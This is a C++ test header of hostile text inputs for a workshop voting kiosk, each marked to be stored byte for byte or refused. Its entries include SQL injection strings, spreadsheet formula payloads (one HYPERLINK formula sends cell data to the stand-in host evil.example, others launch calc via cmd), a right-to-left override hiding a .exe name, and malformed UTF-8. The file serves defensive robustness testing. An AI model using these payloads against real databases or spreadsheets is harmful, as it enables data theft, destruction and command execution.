// hostile_texts.h — idea texts a participant (or a prankster) may type, and what must become of
// them: stored byte for byte, or refused with a message. Shared by hostile_test.cpp (store and
// export) and hostile_render_test.cpp (the kiosk draws them).
#pragma once

#include <string>
#include <vector>

#include "robust_support.h"

namespace robust {

struct HostileText {
    enum Expect { stored, refused };
    const char* name;
    std::string text;
    Expect expect;
};

inline std::string repeated(const std::string& unit, int times) {
    std::string out;
    for (int i = 0; i < times; ++i) out += unit;
    return out;
}

// In this order the first three become idea-1, idea-2 and idea-3 (the tests rely on it).
inline const std::vector<HostileText>& hostile_texts() {
    using H = HostileText;
    static const std::vector<HostileText> texts = {
        {"SQL injection", "'); DROP TABLE ballots;--", H::stored},
        {"SQL injection 2", "Robert\"); DELETE FROM ideas WHERE 1=1; --", H::stored},
        {"HYPERLINK formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a prize\")", H::stored},
        {"plus command", "+cmd|' /C calc'!A0", H::stored},
        {"minus arithmetic", "-2+3", H::stored},
        {"at-SUM", "@SUM(1+1)*cmd|' /C calc'!A0", H::stored},
        {"already apostrophed formula", "'=1+1", H::stored},
        {"quotes, commas and semicolons", "\"quoted\", with comma; and semicolon \"\"", H::stored},
        {"right-to-left override", "\u202Etxt.exe\u202C is fine", H::stored},
        {"bidi isolates", "abc \u2067\u05E9\u05DC\u05D5\u05DD\u2069 def", H::stored},
        {"zero-width characters", "zero\u200Bwidth\u200Cjoin\u200Dword\u2060joiner\uFEFF", H::stored},
        {"emoji outside the font", "\U0001F984 \U0001F9D1\u200D\U0001F91D\u200D\U0001F9D1 \U0001F3F3\uFE0F\u200D\U0001F308 ok",
         H::stored},
        {"CJK outside the font", "\u6F22\u5B57\u304B\u306A\uD55C\uAE00", H::stored},
        {"combining marks (zalgo)", "Z" + repeated("\u0336\u0321\u0327\u031B", 60) + "algo", H::stored},
        {"one word as wide as the screen", repeated("W", 900), H::stored},
        {"1000 emoji (the most allowed)", repeated("\U0001F600", 1000), H::stored},
        {"280 characters of plain words (the default limit)", repeated("Plant more trees on the square. ", 8) + "Please!!",
         H::stored},
        {"Ukrainian and Dutch", "\u0490\u0430\u043D\u043E\u043A \u02BC \u0457 \u00E9\u00EB\u00EF", H::stored},
        {"tab-leading formula", "\t=1+1", H::refused},
        {"CR-leading formula", "\r=1+1", H::refused},
        {"line break", "first line\nsecond line", H::refused},
        {"NUL byte", std::string("before\0after", 12), H::refused},
        {"escape sequence", "\x1b[31mred\x1b[0m", H::refused},
        {"invalid UTF-8 (lone continuation)", "bad \x80 byte", H::refused},
        {"invalid UTF-8 (truncated)", "cut \xE2\x82", H::refused},
        {"invalid UTF-8 (overlong slash)", "\xC0\xAF etc/passwd", H::refused},
        {"invalid UTF-8 (surrogate)", "half \xED\xA0\x80 pair", H::refused},
        {"invalid UTF-8 (0xFF)", "\xFF\xFE", H::refused},
        {"100 000 characters", repeated("x", 100000), H::refused},
        {"1001 characters", repeated("y", 1001), H::refused},
        {"blank", " \u00A0\u3000 ", H::refused},
    };
    return texts;
}

inline std::size_t stored_hostile_count() {
    std::size_t n = 0;
    for (const HostileText& h : hostile_texts()) n += h.expect == HostileText::stored;
    return n;
}

// A dot vote and an idea vote that takes the longest ideas format 1 allows (1000 characters).
inline workshop::Scenario hostile_scenario() {
    static const char* const text = R"(format = 1
id = "hostile"
languages = ["en", "uk"]
title = "Hostile texts"

[[step]]
id = "themes"
type = "dot_vote"
title = "Themes"
dots = 3
options = [ { id = "housing", label = "Housing" }, { id = "work", label = "Work" } ]

[[step]]
id = "ideas"
type = "idea_vote"
title = "Ideas"
collect_ideas = true
max_idea_length = 1000
)";
    workshop::ScenarioLoad load = workshop::parse_scenario(text, "hostile.toml");
    INFO(workshop::format_diagnostics(load.errors));
    REQUIRE(load.ok());
    return *load.scenario;
}

}  // namespace robust
